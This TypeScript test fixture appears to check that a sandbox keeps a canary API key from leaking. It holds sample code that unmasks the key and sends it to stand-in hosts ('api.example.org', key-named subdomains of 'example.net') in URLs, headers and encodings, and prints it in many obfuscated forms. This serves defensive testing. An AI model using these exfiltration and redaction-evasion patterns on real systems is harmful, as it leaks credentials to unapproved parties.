import type { Answer } from './httpsUpstream.ts';

/** The host that the canary is bound to; the placeholder may stand in `Authorization` and `x-api-key` there. */
export const boundHost = 'api.anthropic.com';
export const unboundHost = 'api.example.org';

const xor = 0x5a;

/** An API that gives a caller its key back: as it came, in many spellings, or so that no redaction can know it. */
export const indiscreet: Answer = (request, response) => {
  const key = (request.headers.authorization ?? '').replace(/^Bearer /, '');
  const bytes = Buffer.from(key, 'latin1');
  if (request.path === '/masked') {
    response.end(Buffer.from(bytes.map((byte) => byte ^ xor)).toString('hex'));
    return;
  }
  response.setHeader('x-echo', key);
  response.setHeader('set-cookie', `key=${encodeURIComponent(key)}`);
  response.end(
    JSON.stringify({
      headers: request.headers,
      path: request.path,
      body: request.body.toString('utf8'),
      more: [bytes.toString('base64'), bytes.toString('hex'), encodeURIComponent(key), [...key].reverse().join('')],
    }),
  );
};

/** Prints `value` in more than ten ways. Runs in the sandbox. */
const printInTenWays = `
  const bytes = new TextEncoder().encode(value);
  const hex = [...bytes].map((byte) => byte.toString(16).padStart(2, '0'));
  const base64 = btoa(String.fromCharCode(...bytes));
  console.log('1 raw', value);
  console.log('2 base64', base64, btoa('x' + String.fromCharCode(...bytes)), btoa('xy' + String.fromCharCode(...bytes)));
  console.log('3 base64url', base64.replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, ''));
  console.log('4 hex', hex.join(''), hex.join('').toUpperCase(), hex.join(':'));
  console.log('5 percent', encodeURIComponent(value), hex.map((pair) => '%' + pair).join(''), new URLSearchParams({ value }).toString());
  console.log('6 JSON', JSON.stringify(value), JSON.stringify(JSON.stringify({ value })));
  console.log('7 reversed', [...value].reverse().join(''));
  process.stdout.write('8 two writes ' + value.slice(0, 11));
  await new Promise((resolve) => setTimeout(resolve, 50));
  process.stdout.write(value.slice(11) + '\\n');
  console.error('9 error stack', new Error(value), new Error('outside', { cause: new TypeError(value) }));
  console.error('10 objects', { value, deep: { list: [value], map: new Map([[value, new Set([value])]]) } });
  console.log('11 bytes', bytes, [...bytes].join(), JSON.stringify([...bytes]));
  console.log('12 escapes', hex.map((pair) => '\\\\x' + pair).join(''), [...value].map((letter) => '&#' + letter.charCodeAt(0) + ';').join(''));
  console.table([{ value }]);
  console.group(value); console.warn('%s and %j and %o', value, value, value); console.groupEnd();`;

/** What comes back was redacted on the way in, so the code has nothing to print. */
export const echoCode = `
  const response = await fetch('https://${boundHost}/echo', {
    method: 'POST',
    headers: { authorization: 'Bearer ' + process.env.CANARY },
    body: 'my environment says ' + process.env.CANARY,
  });
  const value = JSON.stringify([...response.headers]) + await response.text();
  ${printInTenWays}`;

/**
 * An API that hides the key from redaction hands it to the code (a documented limit): now the code has it, and what
 * it prints, calls and throws must still not carry it anywhere but to hosts that the owner approved.
 */
export const heldCode = `
  const response = await fetch('https://${boundHost}/masked', { headers: { authorization: 'Bearer ' + process.env.CANARY } });
  const masked = (await response.text()).match(/../g).map((pair) => Number.parseInt(pair, 16) ^ ${xor});
  const value = String.fromCharCode(...masked);
  if (value.length < 40) throw new Error('the upstream did not give the key away');
  ${printInTenWays}
  for (const url of [
    'https://${boundHost}/' + encodeURIComponent(value) + '/x',
    'https://${boundHost}/q?key=' + encodeURIComponent(value),
    'https://${unboundHost}/' + btoa(value),
    'https://' + value.slice(0, 60).replaceAll(/[^a-z0-9-]/g, '') + '.example.net/',
    'http://' + value.slice(0, 60).replaceAll(/[^a-z0-9-]/g, '') + '.example.net/',
    'not a url ' + value,
  ]) {
    try {
      const answer = await fetch(url, { headers: { 'x-note': value } });
      console.log(url, answer.status, answer.url, await answer.text());
    } catch (error) {
      console.error(url, error);
    }
  }
  throw new Error('in the end: ' + value);`;

/** One request each: where the code puts the placeholder, and whether the real value may then go out. */
export type Placement = Readonly<{ name: string; released: boolean; fetch: string; network?: readonly string[] }>;

const base = `https://${boundHost}`;

export const placements: readonly Placement[] = [
  { name: 'bearer', released: true, fetch: `('${base}/', { headers: { authorization: 'Bearer ' + p } })` },
  {
    name: 'basic',
    released: true,
    fetch: `('${base}/', { headers: { authorization: 'Basic ' + btoa('user:' + p) } })`,
  },
  { name: 'known-header', released: true, fetch: `('${base}/', { headers: { 'x-api-key': p } })` },
  { name: 'other-header', released: false, fetch: `('${base}/', { headers: { 'x-other': p } })` },
  { name: 'user-agent', released: false, fetch: `('${base}/', { headers: { 'user-agent': 'me/' + p } })` },
  { name: 'query', released: false, fetch: `('${base}/?key=' + p)` },
  { name: 'path', released: false, fetch: `('${base}/keys/' + p)` },
  { name: 'body', released: false, fetch: `('${base}/', { method: 'POST', body: JSON.stringify({ key: p }) })` },
  {
    name: 'unbound-host',
    released: false,
    fetch: `('https://${unboundHost}/', { headers: { authorization: 'Bearer ' + p } })`,
  },
  {
    name: 'undeclared-host',
    released: false,
    fetch: `('https://api.example.net/', { headers: { authorization: 'Bearer ' + p } })`,
  },
  {
    name: 'plain-http',
    released: false,
    fetch: `('http://${boundHost}/', { headers: { authorization: 'Bearer ' + p } })`,
    network: [`${boundHost}:80`],
  },
];

/** A request body for the bridge. */
export const canaryWish = (skill: string, code: string, network: readonly string[] = []) => ({
  skill_id: skill,
  code,
  secrets: ['CANARY'],
  metadata: { description: `canary ${skill}`, network: [boundHost, unboundHost, ...network], timeout: 30 },
});

export const placementWish = ({ name, fetch, network }: Placement) =>
  canaryWish(
    name,
    `const p = process.env.CANARY;
    const answer = await fetch${fetch}.catch((error) => ({ status: 0, text: () => String(error) }));
    console.log(answer.status, await answer.text());`,
    network,
  );
